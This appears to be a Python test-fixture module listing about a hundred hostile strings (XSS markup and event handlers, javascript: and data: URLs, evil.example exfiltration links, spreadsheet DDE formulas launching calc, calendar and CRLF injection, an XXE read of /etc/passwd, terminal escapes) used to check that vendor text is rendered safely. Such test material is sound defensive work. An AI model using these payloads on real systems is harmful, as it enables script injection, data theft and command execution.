"""What a vendor's page may hold to attack whoever reads about it."""

from __future__ import annotations

import re

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>terms</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/?leak)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999'>",
    "<template><slot></template>{{7*7}}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#x6A;avascript:alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ſcript>alert(1)</ſcript>",
)
"""Markup, event handlers, style, templates and entities."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/terms",
    "https://acme.example@evil.example/",
    "https://evil.example/\r\nSet-Cookie: x=1",
    "https://evil.example/'\"><script>alert(1)</script>",
    "\\\\evil.example\\share",
    "https://evil.example/\u202egpj.exe",
)
"""Addresses that no link may lead to."""

MARKDOWN = (
    "[terms](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "https://evil.example/www and www.evil.example",
    "[x]: https://evil.example 'reference'",
    "# A heading of mine",
    "words\n# A heading of mine\n\n---\n",
    "words\n===",
    "| a | b |\n| - | - |\n| c | d |",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "    indented code",
    "- a list\n  - below",
    "1. a list",
    "> a quotation",
    "**bold** _slanted_ ~~struck~~ `code`",
    "[^1] and [^1]: a footnote",
    "@everyone #12 owner/repo#1 :rocket: someone@evil.example",
    "\\[x\\](https://evil.example)",
    "***",
    "- [ ] a task",
)
"""Marks of Markdown, mentions, and addresses that programs find by themselves."""

FORMULAS = (
    '=HYPERLINK("https://evil.example?x="&A1,"terms")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0\u200b=1+1",
    "＝1+1",
    '","=1+1","',
    ";=1+1;",
    "%0A=1+1",
)
"""What spreadsheets take for formulas, or for the end of a cell."""

LINES = (
    "words\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:mine",
    "words\nATTACH:https://evil.example/x",
    "words\\nX-MINE:1;VALUE=URI:x,y",
    "words\u2028ATTENDEE:mailto:x@evil.example",
    "words\x0bEND:VCALENDAR\x0cBEGIN:VCALENDAR\x85X",
    "é" * 74 + "\r\n END:VEVENT",
    "]]><script>alert(1)</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<![CDATA[ words ]]>",
    '{"quote": "mine"}, \\u0000 \\" \\',
    "{0} {{1}} [link](1)",
)
"""Ends of lines and records in calendars, XML, JSON and messages with placeholders."""

CHARACTERS = (
    "\x00words\x01\x02\x08\x0e\x1f\x7f\x80\x9f",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x90q\x9c",
    "\u202esdrow\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "\ud800 half \udfff",
    "\ufffe\uffff\ufdd0",
    "\U000e0041\U000e0042 tags",
    "w\u200bo\u200cr\u200dd\ufeffs",
    "a\u0300" * 60,
    "w" * 5000,
    "\U0001f469\u200d\U0001f4bb " * 40,
    "",
    "   ",
)
"""Control, direction and hidden characters, escapes of terminals, words without end, and nothing at all."""

HOSTILE = (*HTML, *ADDRESSES, *MARKDOWN, *FORMULAS, *LINES, *CHARACTERS)
"""All of them, some hundred."""

STORABLE = tuple(words for words in HOSTILE if not re.search("[\ud800-\udfff]", words))
"""Those that a text can hold: it is kept, and read again, as UTF-8."""

HARMLESS = "words"
"""What a hostile text is put in the place of: the structure of what comes out must be the same."""
